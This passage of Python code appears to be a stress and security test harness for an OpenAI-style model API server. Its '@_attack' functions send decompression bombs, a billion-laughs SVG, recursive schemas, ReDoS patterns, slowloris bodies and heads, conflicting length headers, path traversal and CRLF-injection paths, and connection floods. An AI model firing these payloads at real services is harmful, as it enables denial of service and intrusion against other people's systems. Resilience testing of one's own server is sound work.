        b"GIF89a\xff\xff\xff\xff\xf0\0\0" + b"\0" * 6 + b",\0\0\0\0\xff\xff\xff\xff\0",
    )
    frame = b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xdc\xff\xdc\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    yield "image/jpeg", frame + b"\xff\xd9"
    bitmap = struct.pack("<IHHIIiiHH", 70, 0, 0, 54, 40, 2**31 - 1, 2**31 - 1, 1, 24)
    yield "image/bmp", b"BM" + bitmap + b"\0" * 32
    yield "image/webp", b"RIFF\xff\xff\xff\xffWEBPVP8X\x0a\0\0\0\0\0\0\0" + b"\xff" * 6
    levels = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 8}">' for i in range(1, 8))
    laugh = f'<!DOCTYPE svg [<!ENTITY l0 "lol">{levels}]><svg><text>&l7;</text></svg>'
    yield "image/svg+xml", laugh.encode()


def _files() -> Iterator[tuple[str, str, bytes]]:
    data = squeeze(BOMB_BYTES)
    head = b"%%PDF-1.4\n1 0 obj<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n" % len(data)
    yield "a.pdf", "application/pdf", head + data + b"\nendstream endobj\n%%EOF"
    loop = b"%PDF-1.4\n1 0 obj<</Type/Pages/Kids[1 0 R 1 0 R]/Count 999999999>>endobj\n"
    yield "b.pdf", "application/pdf", loop + b"trailer<</Root 1 0 R>>\n%%EOF"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * (32 * MIB))
    yield "a.docx", "application/vnd.openxmlformats-officedocument", packed.getvalue()
    yield "a.txt.gz", "application/gzip", squeeze(BOMB_BYTES, bits=31)
    yield "../../a\0" + "n" * 100_000, "text/plain", b"a"


def _data_url(kind: str, data: bytes) -> str:
    return f"data:{kind};base64,{base64.b64encode(data).decode()}"


@_attack("send small images that say they are huge")
async def _send_image_bombs(clients: Clients) -> None:
    for kind, data in _images():
        part = {"type": "input_image", "detail": "high", "image_url": _data_url(kind, data)}
        text = _IN_MESSAGE + json.dumps([part]).encode() + b"}]"
        await clients.ask(post(clients.target, text), seconds=4)
    old: object = {
        "type": "image_url",
        "image_url": {"url": _data_url("image/png", _png(1, 1, b""))},
    }
    text = (
        b'"messages":[{"role":"user","content":' + repeat(json.dumps(old).encode(), 1_000) + b"}]"
    )
    await clients.ask(request(clients.target, CHAT, chat(clients.target, text)), seconds=4)


@_attack("send small files that unpack to much")
async def _send_file_bombs(clients: Clients) -> None:
    for name, kind, data in _files():
        part = {"type": "input_file", "filename": name, "file_data": _data_url(kind, data)}
        text = _IN_MESSAGE + json.dumps([part]).encode() + b"}]"
        await clients.ask(post(clients.target, text), seconds=4)


@_attack("send images and files as long as a body may be")
async def _send_long_media(clients: Clients) -> None:
    size = MOST_BODY - 1024
    for part in (
        b'{"type":"input_image","image_url":"data:image/png;base64,%b"}' % (b"A" * size),
        b'{"type":"input_image","image_url":"data:image/png;base64,%b"}' % (b"=" * size),
        b'{"type":"input_image","image_url":"data:image/png,%b"}' % (b"%41" * (size // 3)),
        b'{"type":"input_image","image_url":"data:%b,"}' % (b";a=b" * (size // 4)),
        b'{"type":"input_image","image_url":"http://127.0.0.1:1/%b"}' % (b"a" * size),
        b'{"type":"input_file","filename":"a.txt","file_data":"%b"}' % (b"QUFB" * (size // 4)),
        b'{"type":"input_audio","input_audio":{"format":"wav","data":"%b"}}' % (b"A" * size),
        b'{"type":"input_image","file_id":"%b"}' % (b"a" * size),
    ):
        await clients.ask(post(clients.target, _IN_MESSAGE + b"[" + part + b"]}]"), seconds=5)


# Schemas and grammars.


def _in_format(target: Target, schema: object) -> bytes:
    text = json.dumps(schema).encode()
    return post(target, _IN_FORMAT + b'"strict":true,"schema":' + text + b"}}")


def _in_tool(target: Target, schema: object) -> bytes:
    text = json.dumps(schema).encode()
    return post(target, _IN_TOOL + b'"strict":true,"parameters":' + text + b"}]")


async def _ask_schemas(clients: Clients, schemas: Iterable[object], seconds: float = 3) -> None:
    for schema in schemas:
        inner = {
            "type": "object",
            "properties": {"a": schema},
            "required": ["a"],
            "additionalProperties": False,
        }
        if isinstance(schema, dict) and "$defs" in schema:
            inner["$defs"] = schema.pop("$defs")
        await clients.ask(_in_format(clients.target, inner), seconds=seconds)
        await clients.ask(_in_tool(clients.target, inner), seconds=seconds)


@_attack("send schemas that refer to themselves")
async def _send_schema_loops(clients: Clients) -> None:
    loop = {"$ref": "#/$defs/a"}
    both = {"$ref": "#/$defs/b"}
    chain = {f"d{i}": {"$ref": f"#/$defs/d{(i + 1) % 3_000}"} for i in range(3_000)}
    await _ask_schemas(
        clients,
        [
            {"$ref": "#"},
            {**loop, "$defs": {"a": loop}},
            {**loop, "$defs": {"a": both, "b": loop}},
            {**loop, "$defs": {"a": {"allOf": [loop, loop]}}},
            {**loop, "$defs": {"a": {"anyOf": [loop, {"not": loop}]}}},
            {**loop, "$defs": {"a": {"type": "array", "items": loop, "minItems": 1}}},
            {"$ref": "#/$defs/d0", "$defs": chain},
            {"$ref": "#" + "/properties/a" * 10_000},
            {"$ref": "http://127.0.0.1:1/schema.json"},
            {"$ref": "file:///dev/zero"},
            {"$dynamicRef": "#a", "$defs": {"a": {"$dynamicAnchor": "a", "$dynamicRef": "#a"}}},
        ],
        seconds=2,
    )


@_attack("send schemas that double at each level")
async def _send_schema_doubling(clients: Clients) -> None:
    def double(word: str, levels: int) -> object:
        defs: dict[str, object] = {f"d{levels}": {"type": "string"}}
        for level in range(levels):
            below = {"$ref": f"#/$defs/d{level + 1}"}
            defs[f"d{level}"] = {word: [below, below]}
        return {"$ref": "#/$defs/d0", "$defs": defs}

    words = ("allOf", "anyOf", "oneOf")
    await _ask_schemas(
        clients, [double(word, levels) for levels in (10, 16, 20) for word in words], seconds=2
    )


@_attack("send patterns that take long to compile or to match")
async def _send_patterns(clients: Clients) -> None:
    patterns = [
        "^(a+)+$",
        "^(a|a)*$",
        "^(([a-z])+.)+[A-Z]([a-z])+$",
        "(x{1000}){1000}",
        "a{1,1000000}",
        "(a?){5000}a{5000}",
        "(" * 5_000 + "a" + ")" * 5_000,
        "[" + "\\p{L}" * 2_000 + "]",
        "(?=" * 1_000 + "a" + ")" * 1_000,
        "(a)\\1{1000}",
        "|".join(f"w{i}" for i in range(30_000)),
        "a" * MIB,
        "[^a]" * 100_000,
        "\\u{10FFFF}" * 10_000,
    ]
    await _ask_schemas(clients, ({"type": "string", "pattern": text} for text in patterns), 1.5)


@_attack("send schemas that ask for very much")
async def _send_schema_counts(clients: Clients) -> None:
    huge = 10**9
    schemas: list[object] = [
        {"type": "array", "items": {"type": "integer"}, "minItems": huge},
        {"type": "array", "items": {"type": "integer"}, "maxItems": huge},
        {"type": "string", "minLength": huge, "maxLength": huge},
        {"type": "object", "minProperties": huge},
        {"type": "integer", "minimum": -(10**300), "maximum": 10**300},
        {"type": "integer", "minimum": 0, "maximum": 10**4_000},
        {"type": "number", "multipleOf": 1e-300},
        {"type": "array", "prefixItems": [{"type": "integer"}] * 5_000},
        {"type": "string", "const": "c" * MIB},
        {"type": "array", "contains": {"type": "string"}, "minContains": huge},
    ]
    deep: object = {"type": "integer"}
    for _ in range(8):
        deep = {"type": "array", "items": deep, "minItems": 100, "maxItems": 100}
    nested: object = {"type": "integer"}
    for _ in range(180):
        nested = {"type": "array", "items": nested}
    await _ask_schemas(clients, [*schemas, deep, nested], seconds=1.5)


@_attack("send schemas with very many names")
async def _send_schema_names(clients: Clients) -> None:
    names = [f"name{i}" for i in range(100_000)]
    some = {name: {"type": "integer"} for name in names[:9_000]}
    schemas: list[object] = [
        {"enum": names},
        {"enum": names[:29_000]},
        {"enum": ["x" * i for i in range(3_000)]},
        {"enum": list(range(29_000))},
        {"type": "object", "properties": some},
        {"type": "object", "properties": some, "required": list(some)},
        {"anyOf": [{"const": name} for name in names[:9_000]]},
        {"type": "object", "patternProperties": {f"^{n}.*$": {} for n in names[:5_000]}},
        {"type": "object", "dependentRequired": dict.fromkeys(names[:2_000], names[:10])},
    ]
    await _ask_schemas(clients, schemas, seconds=2)


@_attack("send a hundred different schemas at once")
async def _send_schemas_together(clients: Clients) -> None:
    def schema(index: int) -> object:
        names = {f"n{index}x{i}": {"type": "string", "pattern": f"^a{{{i}}}$"} for i in range(80)}
        return {"type": "object", "properties": names, "additionalProperties": False}

    requests = [_in_format(clients.target, schema(index)) for index in range(100)]
    await clients.ask_together(requests, seconds=11)


@_attack("send hundreds of different schemas in turn")
async def _send_schemas_in_turn(clients: Clients) -> None:
    for index in range(400):
        names = {f"n{index}x{i}": {"enum": [f"v{index}x{i}"]} for i in range(30)}
        schema = {"type": "object", "properties": names, "additionalProperties": False}
        await clients.hurry([_in_format(clients.target, schema)], wait=0.015)


@_attack("send grammars without end")
async def _send_grammars(clients: Clients) -> None:
    doubled = "\n".join(f"r{i}: r{i + 1} r{i + 1}" for i in range(20))
    texts = [
        ("lark", "start: start"),
        ("lark", 'start: start start | "a"'),
        ("lark", "start: a\na: b\nb: a"),
        ("lark", 'start: "a"~1..1000000000'),
        ("lark", f'start: r0\n{doubled}\nr20: "x"'),
        ("lark", "start: /(a+)+$/"),
        ("lark", "start: " + "(" * 5_000 + '"a"' + ")" * 5_000),
        ("lark", "start: " + " | ".join(f'"w{i}"' for i in range(20_000))),
        ("lark", "\n".join(f'r{i}: "x"' for i in range(20_000)) + "\nstart: r0"),
        ("lark", "%import .secret\nstart: secret"),
        ("lark", 'start: "' + "a" * MIB + '"'),
        ("regex", "(?:(?:a{1000}){1000}){1000}"),
        ("regex", "(a?){3000}a{3000}"),
        ("regex", "(a|aa)+$"),
        ("regex", "[" + "".join(chr(0x4E00 + 2 * i) for i in range(10_000)) + "]{100}"),
        ("regex", "a" * MIB),
    ]
    for syntax, definition in texts:
        form = {"type": "grammar", "syntax": syntax, "definition": definition}
        tool = json.dumps([{"type": "custom", "name": "f", "format": form}]).encode()
        text = b'"input":"Hi","tool_choice":"required","tools":' + tool
        await clients.ask(post(clients.target, text), seconds=2)


# Bodies in pieces, and bodies whose length is a lie.


def _chunked(body: bytes, size: int, extension: bytes = b"") -> bytes:
    starts = range(0, len(body), size)
    pieces = (body[start : start + size] for start in starts)
    return b"".join(b"%x%b\r\n%b\r\n" % (len(piece), extension, piece) for piece in pieces)


@_attack("send a body in chunks of one byte")
async def _send_tiny_chunks(clients: Clients) -> None:
    head = begin(clients.target, "Transfer-Encoding: chunked", "Connection: close")
    for size, count in ((1, 1_500_000), (2, 2_400_000), (1, 100)):
        body = _chunked(fields(clients.target, b'"input":"Hi","x":"' + b"a" * count + b'"'), size)
        await clients.ask(head + body + b"0\r\n\r\n")


@_attack("send chunks with long extensions and odd sizes")
async def _send_chunk_extensions(clients: Clients) -> None:
    target = clients.target
    head = begin(target, "Transfer-Encoding: chunked", "Connection: close")
    body = fields(target)
    end = b"0\r\n\r\n"
    for data in (
        _chunked(body, 1, b";a=" + b"b" * 1_000) + end,
        _chunked(body, 1, b";a=" + b"b" * 60_000) + end,
        b"1;" + b"a" * (9 * MIB),
        b"0" * MIB + b"1\r\na\r\n" + end,
        b"F" * 17 + b"\r\n" + body,
        b"-1\r\n" + body,
        b"0x10\r\n" + body,
        b"1_0\r\n" + body,
        b"7fffffffffffffff\r\n" + b"a" * MIB,
        b"\r\n" * 100_000 + end,
        b"1\r\nab\r\n" + end,
    ):
        await clients.ask(head + data, seconds=2)


@_attack("send trailers without end")
async def _send_trailers(clients: Clients) -> None:
    target = clients.target
    start = begin(target, "Transfer-Encoding: chunked", "Connection: close")
    start += _chunked(fields(target), 100) + b"0\r\n"
    for trailers in (b"A: b\r\n" * 10, b"A: b\r\n" * 1_000_000, b"A: " + b"b" * (9 * MIB)):
        await clients.ask(start + trailers + b"\r\n", seconds=4)
    await clients.ask(start + b"A: b\r\n" * 1_000, seconds=1)


@_attack("send chunked bodies without end")
async def _send_endless_chunks(clients: Clients) -> None:
    head = begin(clients.target, "Transfer-Encoding: chunked")
    part = _chunked(b"[]," * 20_000, 60_000)
    data = head + b"1\r\n[\r\n" + part * (9 * MIB // len(part))
    await clients.ask_together([data] * 10)


@_attack("send bytes after a body was refused")
async def _send_after_refusal(clients: Clients) -> None:
    head = begin(clients.target, "Content-Length: 1000000000000")
    await clients.hold([head + b"a" * (9 * MIB)] * 10)


@_attack("lie about the length of a body")
async def _lie_about_length(clients: Clients) -> None:
    target, body = clients.target, fields(clients.target)
    right = len(body)
    for length in (
        "-1",
        "+5",
        "1e3",
        "0x10",
        " ",
        "",
        "1,1",
        "9" * 19,
        "9" * 4_400,
        "9" * 60_000,
        "٣",
        "1_0",
        "18446744073709551616",
        f"{right}\r\nContent-Length: {right + 1}",
        f"{right}\r\nContent-Length: {right}",
        f"{right}\r\nTransfer-Encoding: chunked",
        f"{right}\r\nTransfer-Encoding: identity",
        f"{right}\r\nTransfer-Encoding: gzip, chunked",
        f"{right - 1}",
        f"{right + 1}",
        "0",
    ):
        head = begin(target, "Connection: close", f"Content-Length: {length}")
        await clients.ask(head + body, seconds=1)


@_attack("claim long bodies and send none", many=True)
async def _claim_long_bodies(clients: Clients) -> None:
    head = begin(clients.target, f"Content-Length: {MOST_BODY}")
    await clients.ask_together([head] * 400)


@_attack("expect to be told to go on and never do", many=True)
async def _expect_continue(clients: Clients) -> None:
    head = begin(clients.target, f"Content-Length: {MOST_BODY}", "Expect: 100-continue")
    await clients.ask_together([head] * 300)
    odd = begin(clients.target, "Content-Length: 5", "Expect: " + "x" * 4_000)
    await clients.ask_together([odd] * 50, seconds=3)


def _unfinished(target: Target, size: int) -> bytes:
    return request(target, RESPONSES, fill(target, b'"input":"Hi","x":"', size, b'"'))[:-1]


@_attack("leave seven long bodies unfinished")
async def _leave_seven_bodies(clients: Clients) -> None:
    data = _unfinished(clients.target, 15 * MIB // 2)
    await clients.ask_together([data] * 7)


@_attack("leave as many bodies unfinished as are allowed together")
async def _leave_eight_bodies(clients: Clients) -> None:
    data = _unfinished(clients.target, MOST_BODY)
    await clients.ask_together([data] * 8)


@_attack("leave more bodies unfinished than are allowed together")
async def _leave_twelve_bodies(clients: Clients) -> None:
    data = _unfinished(clients.target, 8_200_000)
    await clients.ask_together([data] * 12)


@_attack("leave many middling bodies unfinished", many=True)
async def _leave_middling_bodies(clients: Clients) -> None:
    data = _unfinished(clients.target, 200_000)
    await clients.ask_together([data] * 480)


@_attack("leave many short bodies unfinished", many=True)
async def _leave_short_bodies(clients: Clients) -> None:
    data = _unfinished(clients.target, 63_000)
    await clients.ask_together([data] * 500)


@_attack("have many long requests answered together")
async def _answer_long_requests(clients: Clients) -> None:
    text = b'"input":"Count to a hundred.","x":"' + b"a" * 8_200_000 + b'"'
    data = post(clients.target, text)
    await clients.ask_together([data] * 12, seconds=11)


@_attack("have many long texts of wide letters answered together")
async def _answer_wide_requests(clients: Clients) -> None:
    text = b'"input":"Hi","x":"' + b"a" * 8_200_000 + '😀"'.encode()
    data = post(clients.target, text)
    await clients.ask_together([data] * 12, seconds=11)


@_attack("send bodies slowly", many=True)
async def _send_slow_bodies(clients: Clients) -> None:
    body = fields(clients.target, b'"input":"Hi","x":"' + b"a" * 100_000 + b'"')
    data = request(clients.target, RESPONSES, body)
    pieces = [data[:300], *(data[start : start + 10] for start in range(300, 1_000, 10))]
    await clients.ask_together([pieces] * 200, seconds=10, pause=0.15)


@_attack("send compressed bodies that unpack to much")
async def _send_gzip(clients: Clients) -> None:
    target = clients.target
    plain = fields(target)
    zeros = squeeze(BOMB_BYTES, bits=31, byte=b"[")
    twice = zlib.compress(zeros)
    for encoding, body in (
        ("gzip", zeros),
        ("deflate", squeeze(BOMB_BYTES)),
        ("gzip, gzip", twice),
        (", ".join(["gzip"] * 1_000), zeros),
        ("br", b"\x5b\xff\xff\x03\x00" * 100_000),
        ("zstd", b"\x28\xb5\x2f\xfd\xe4" + b"\xff" * 100_000),
        ("identity", plain),
        ("x" * 4_000, plain),
    ):
        await clients.ask(request(target, RESPONSES, body, f"Content-Encoding: {encoding}"))


# Heads and paths.


@_attack("send heads of every length")
async def _send_long_heads(clients: Clients) -> None:
    for size in (7_000, 8_000, 8_192, 16_000, 32_768, 65_000, 65_536, 70_000, MIB, 9 * MIB):
        await clients.ask(request(clients.target, "/health", None, "X: " + "a" * size), seconds=3)
        lines = ["X: a"] * (size // 6)
        await clients.ask(request(clients.target, "/health", None, *lines), seconds=3)


@_attack("send lines of a head that are no lines")
async def _send_odd_heads(clients: Clients) -> None:
    start = b"GET /health HTTP/1.1\r\n" + _host(clients.target).encode() + b"\r\n"
    for lines in (
        b"a" * 60_000,
        b": a",
        b" a: b",
        b"a : b",
        b"a: b\r\n c",
        b"a: \x00",
        b"a: b\nc: d",
        b"a: \xff\xfe",
        b"Host: other",
        b"Host: " + b"a" * 60_000,
        b"\r" * 10_000,
        b"a\x0b: b",
        b"Cookie: " + b"a=b; " * 10_000,
        b"Range: bytes=" + b"0-1," * 10_000,
        b"Accept: " + b"a/b;q=0.1," * 6_000,
        b"Accept-Language: " + b"a," * 25_000,
        b"Authorization: Bearer " + b"a" * 60_000,
        b"Authorization: Basic " + b"=" * 60_000,
        b"X-Forwarded-For: " + b"1.1.1.1, " * 6_000,
        b"Connection: " + b"close, " * 8_000,
        b"Origin: http://127.0.0.1\r\n" * 1_000,
        b"Upgrade: h2c\r\nHTTP2-Settings: AAAA",
    ):
        data = start + b"Connection: close\r\n" + lines + b"\r\n\r\n"
        await clients.ask(data, seconds=1)


@_attack("send bytes that are no HTTP")
async def _send_garbage(clients: Clients) -> None:
    for data in (
        b"\r\n" * 1_000_000,
        b"\0" * MIB,
        b"GET /health\r\n\r\n",
        b"G" * (9 * MIB),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" * 100_000,
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 512,
        b"GET /health HTTP/9.9\r\n\r\n",
        b"GET  /health HTTP/1.1\r\n\r\n",
        b"GET /health HTTP/1.1 " + b"a" * MIB,
        b"CONNECT 127.0.0.1:1 HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        b"TRACE /health HTTP/1.1\r\nHost: 127.0.0.1\r\nMax-Forwards: 9\r\n\r\n",
        b"GET http://127.0.0.1:1/health HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        b"M" * 60_000 + b" / HTTP/1.1\r\n\r\n",
        bytes(range(256)) * 4_096,
    ):
        await clients.ask(data, seconds=1)


@_attack("ask for long and strange paths")
async def _ask_strange_paths(clients: Clients) -> None:
    for path in (
        "/" + "a" * 7_000,
        "/" + "a" * 60_000,
        "/" + "a" * MIB,
        "/" * 60_000,
        "/a" * 30_000,
        "/%2e%2e" * 8_000,
        "/%00" * 8_000,
        "/%ff%fe" * 8_000,
        "/%",
        "/%zz" * 8_000,
        "/%25" * 9_000,
        "/../" * 9_000,
        "*",
        "//127.0.0.1/",
        "/v1/responses/" + "%61" * 20_000,
        "/v1//responses",
        "/v1/models/" + "a" * 60_000,
        "/v1/models/" + "%2f" * 9_000,
        "/v1/models/..%2f..%2fa",
        "/v1/responses/%0d%0aX:%20y",
        "/health;" + "a=b;" * 9_000,
        "/health#" + "a" * 60_000,
    ):
        await clients.ask(request(clients.target, path), seconds=1)


@_attack("ask with very many queries")
async def _ask_many_queries(clients: Clients) -> None:
    for query in (
        "a=1&" * 2_000,
        "a=1&" * 15_000,
        "a=1&" * 1_000_000,
        "&" * 60_000,
        "=" * 60_000,
        "include[]=x&" * 5_000,
        "include=x&" * 6_000,
        "%61=%62&" * 7_000,
        "a=" + "%ff" * 20_000,
        *("".join(f"k{i}=v&" for i in range(8_000)), "limit=1&" * 8_000, "stream=true&" * 5_000),
    ):
        for path in ("/health", "/v1/responses/resp_0/input_items"):
            await clients.ask(request(clients.target, f"{path}?{query}"), seconds=1)


@_attack("count each of thousands of paths, methods and models")
async def _ask_unique_names(clients: Clients) -> None:
    target = clients.target
    gets = b"".join(request(target, f"/path{i}", close=False) for i in range(3_000))
    await clients.pipeline(gets, 3_000, seconds=4)
    odd = (request(target, "/health", method=f"M{i}") for i in range(300))
    await clients.ask_together(odd, at_once=20, seconds=2)
    models = (
        request(target, RESPONSES, json.dumps({"model": f"m{i}" * 500, "input": "Hi"}).encode())
        for i in range(500)
    )
    await clients.ask_together(models, at_once=20, seconds=2)
    answer = await clients.ask(request(target, "/metrics"))
    clients.notes.append(f"/metrics has at least {len(answer.body):,} bytes")


@_attack("send heads slowly", many=True)
async def _send_slow_heads(clients: Clients) -> None:
    data = request(clients.target, "/health", None, "X: " + "a" * 200)
    pieces = [data[index : index + 1] for index in range(len(data) - 2)]
    await clients.ask_together([pieces] * 150, seconds=10, pause=0.1)


@_attack("send a head line by line without end")
async def _send_endless_lines(clients: Clients) -> None:
    start = request(clients.target, "/health")[:-2]
    pieces = [start, *(b"X%d: a\r\n" % index for index in range(20_000))]
    await clients.ask_together([pieces] * 10, seconds=8, pause=0.002)


# Many connections.


@_attack("open connections and send nothing", many=True)
async def _open_idle(clients: Clients) -> None:
    await clients.ask_together([b""] * MOST_CONNECTIONS, seconds=8)


@_attack("open 1,200 connections with half a head", many=True)
async def _open_half_heads(clients: Clients) -> None:
    data = request(clients.target, "/health")[:-2]
    await clients.ask_together([data] * MOST_CONNECTIONS, seconds=8)


@_attack("open 1,200 connections that send a byte now and then", many=True)
async def _open_slow(clients: Clients) -> None:
    data = post(clients.target)
    pieces = [data[:20], *(data[index : index + 1] for index in range(20, 40))]
    await clients.ask_together([pieces] * MOST_CONNECTIONS, seconds=8, pause=0.5)


@_attack("stay connected after a request up to the limit of connections", many=True)
async def _stay_connected(clients: Clients) -> None:
    data = request(clients.target, "/health", close=False)
    count = MOST_SERVER_CONNECTIONS
    await clients.ask_together([data] * (count - 12), seconds=4)
    await clients.ask_together([data] * (count + 20), seconds=4)


@_attack("open and close connections as fast as possible", many=True)
async def _churn(clients: Clients) -> None:
    await clients.hurry([b""] * 400)
    await clients.hurry([b"G"] * 400, reset=True)
    await clients.hurry([request(clients.target, "/health")] * 400, reset=True)


@_attack("send 500 small requests at once", many=True)
async def _send_many_requests(clients: Clients) -> None:
    await clients.ask_together([post(clients.target)] * 500, seconds=11)


@_attack("send 500 chat completions at once", many=True)
async def _send_many_chats(clients: Clients) -> None:
    text = b'"stream":true,"messages":[{"role":"user","content":"Hi"}]'
    data = request(clients.target, CHAT, chat(clients.target, text))
    await clients.ask_together([data] * 500, seconds=11)


@_attack("ask for lists and descriptions 1,000 times at once", many=True)
async def _ask_lists(clients: Clients) -> None:
    paths = ("/v1/models", "/openapi.json", "/metrics", "/health")
    requests = [request(clients.target, paths[index % 4]) for index in range(1_000)]
    await clients.ask_together(requests, at_once=400, seconds=6)


@_attack("pipeline 1,000 small requests")
async def _pipeline_gets(clients: Clients) -> None:
    data = request(clients.target, "/health", close=False)
    await clients.pipeline(data * 1_000, 1_000, seconds=5)
    await clients.pipeline(data * 20_000, 20_000, seconds=5)


@_attack("pipeline 1,000 responses")
async def _pipeline_posts(clients: Clients) -> None:
    await clients.pipeline(post(clients.target, close=False) * 1_000, 1_000, seconds=6)
    bad = request(clients.target, RESPONSES, b"[]", close=False)
    await clients.pipeline(bad * 5_000, 5_000, seconds=5)


@_attack("pipeline requests for long answers and read none", many=True)
async def _pipeline_unread(clients: Clients) -> None:
    for path in ("/openapi.json", "/metrics", "/v1/models"):
        data = request(clients.target, path, close=False) * 2_000
        await clients.hold([data] * 50, seconds=4)


@_attack("read long answers a byte at a time")
async def _read_slowly(clients: Clients) -> None:
    async def read_next() -> None:
        try:
            reader, writer = await clients.connect(unread=True)
            await clients.send(writer, request(clients.target, "/openapi.json", close=False) * 500)
            for _ in range(60):
                if not await reader.read(1):
                    break
                await asyncio.sleep(0.1)
            clients.answers["read slowly"] += 1
        except OSError:
            clients.answers["reset"] += 1

    async with asyncio.TaskGroup() as group:
        for _ in range(60):
            group.create_task(read_next())


@_attack("close the sending half after a request", many=True)
async def _close_half(clients: Clients) -> None:
    async def ask_once(data: bytes) -> None:
        try:
            async with asyncio.timeout(8):
                reader, writer = await clients.connect()
                await clients.send(writer, data)
                writer.write_eof()
                clients.answers[await _read_status(reader)] += 1
        except TimeoutError:
            clients.answers["silence"] += 1
        except OSError:
            clients.answers["reset"] += 1

    whole = post(clients.target)
    async with asyncio.TaskGroup() as group:
        for index in range(200):
            group.create_task(ask_once(whole if index % 2 else whole[:-1]))


# Streams, background and stored responses.


def _stream(target: Target, more: bytes = b"") -> bytes:
    text = b'"stream":true,"input":"Count from one to a hundred."' + more
    return request(target, RESPONSES, fields(target, text).replace(b": 16,", b": 400,", 1))


@_attack("open 50 streams and never read")
async def _open_unread_streams(clients: Clients) -> None:
    await clients.hold([_stream(clients.target)] * 50, seconds=9)


@_attack("open 200 streams and leave at once")
async def _leave_streams(clients: Clients) -> None:
    await clients.hurry([_stream(clients.target)] * 200)


@_attack("open 200 streams and leave after their first bytes", many=True)
async def _leave_started_streams(clients: Clients) -> None:
    async def leave_early() -> None:
        try:
            async with asyncio.timeout(5), clients.sending(_stream(clients.target)) as reader:
                clients.answers[await _read_status(reader)] += 1
                await reader.read(1)
        except TimeoutError:
            clients.answers["silence"] += 1
        except OSError:
            clients.answers["reset"] += 1

    async with asyncio.TaskGroup() as group:
        for _ in range(200):
            group.create_task(leave_early())


@_attack("leave 100 long requests in their middle")
async def _leave_middle(clients: Clients) -> None:
    data = post(clients.target, b'"input":"Hi","x":' + repeat(b"[]", 200_000))
    await clients.hurry([data[: len(data) * index // 100] for index in range(1, 100)], reset=True)
    await clients.hurry([data] * 50, reset=True)


@_attack("stream responses that repeat a long field in each event")
async def _stream_long_fields(clients: Clients) -> None:
    long = b'"' + b"a" * (MOST_BODY - 2_048) + b'"'
    keys = number(b'"k%d":"' + b"v" * 512 + b'"', 16, b"{", b"}")
    for more in (
        b',"user":' + long,
        b',"prompt_cache_key":' + long,
        b',"safety_identifier":' + long,
        b',"metadata":' + keys,
        b',"service_tier":' + long,
        b',"truncation":' + long,
        b',"tool_choice":"none","tools":[{"type":"function","name":"f","description":'
        + long
        + b"}]",
        b',"prompt":{"id":"p","version":' + long + b"}",
    ):
        await clients.ask(_stream(clients.target, more), seconds=3)


async def _create(clients: Clients, text: bytes = b"") -> str | None:
    """Have a response stored and return its id."""
    answer = await clients.ask(post(clients.target, text, store=True), seconds=6)
    found = _RESPONSE_ID.search(answer.body)
    return found[1].decode("ascii", "replace") if found else None


@_attack("create 200 responses in the background")
async def _create_background(clients: Clients) -> None:
    data = post(clients.target, b'"background":true,"input":"Hi"', store=True)
    await clients.ask_together([data] * 200, at_once=20, seconds=3)


@_attack("create long responses in the background and forget them")
async def _create_long_background(clients: Clients) -> None:
    text = b'"background":true,"input":"Hi","x":"' + b"a" * 8_000_000 + b'"'
    data = post(clients.target, text, store=True)
    await clients.ask_together([data] * 12, at_once=4, seconds=5)


@_attack("open the stream of one response in the background 200 times", many=True)
async def _open_background_streams(clients: Clients) -> None:
    name = await _create(clients, b'"background":true,"stream":false,"input":"Count to ninety."')
    data = request(clients.target, f"{RESPONSES}/{name}?stream=true", close=False)
    await clients.hold([data] * 200, seconds=5)
    await clients.ask(request(clients.target, f"{RESPONSES}/{name}/cancel", b"{}"), seconds=2)


@_attack("store long responses and read them without end")
async def _read_stored(clients: Clients) -> None:
    target = clients.target
    for text in (
        b'"input":"Hi","user":"' + b"a" * 4_000_000 + b'"',
        b'"input":"Hi","x":"' + b"a" * 4_000_000 + b'"',
        b'"input":[{"role":"user","content":"' + b"word " * 400 + b'"}]',
    ):
        name = await _create(clients, text)
        if name is None:
            clients.notes.append("one was not stored")
            continue
        for path in (f"{RESPONSES}/{name}", f"{RESPONSES}/{name}/input_items?limit=100"):
            await clients.hold([request(target, path, close=False) * 500] * 10, seconds=1)
        await clients.ask(request(target, f"{RESPONSES}/{name}", method="DELETE"), seconds=2)


@_attack("continue one response again and again")
async def _continue_chain(clients: Clients) -> None:
    name = await _create(clients)
    for index in range(40):
        if name is None:
            clients.notes.append(f"the chain ended at {index}")
            return
        text = b'"input":"Go on.","previous_response_id":"' + name.encode() + b'"'
        name = await _create(clients, text)


@_attack("continue one response 200 times at once", many=True)
async def _continue_together(clients: Clients) -> None:
    name = await _create(clients) or "resp_0"
    text = b'"input":"Go on.","previous_response_id":"' + name.encode() + b'"'
    await clients.ask_together([post(clients.target, text)] * 200)


@_attack("read unknown responses thousands of times")
async def _read_unknown(clients: Clients) -> None:
    paths = [f"{RESPONSES}/resp_{index:048x}" for index in range(4_000)]
    data = b"".join(request(clients.target, path, close=False) for path in paths)
    await clients.pipeline(data, 4_000, seconds=6)
    requests = [request(clients.target, path + "/input_items") for path in paths[:400]]
    await clients.ask_together(requests, at_once=50, seconds=4)


@_attack("delete and cancel unknown responses thousands of times")
async def _delete_unknown(clients: Clients) -> None:
    target = clients.target
    paths = [f"{RESPONSES}/resp_{index:048x}" for index in range(4_000)]
    data = b"".join(request(target, path, method="DELETE", close=False) for path in paths)
    await clients.pipeline(data, 4_000, seconds=6)
    data = b"".join(request(target, path + "/cancel", b"", close=False) for path in paths)
    await clients.pipeline(data, 4_000, seconds=6)


@_attack("delete, read and cancel one response at the same time")
async def _delete_together(clients: Clients) -> None:
    target = clients.target
    name = await _create(clients, b'"background":true,"input":"Count to ninety."') or "resp_0"
    path = f"{RESPONSES}/{name}"
    mix = [
        request(target, path, method="DELETE"),
        request(target, path),
        request(target, path + "?stream=true"),
        request(target, path + "/cancel", b"{}"),
        request(target, path + "/input_items"),
    ]
    await clients.ask_together(mix * 30, seconds=5)


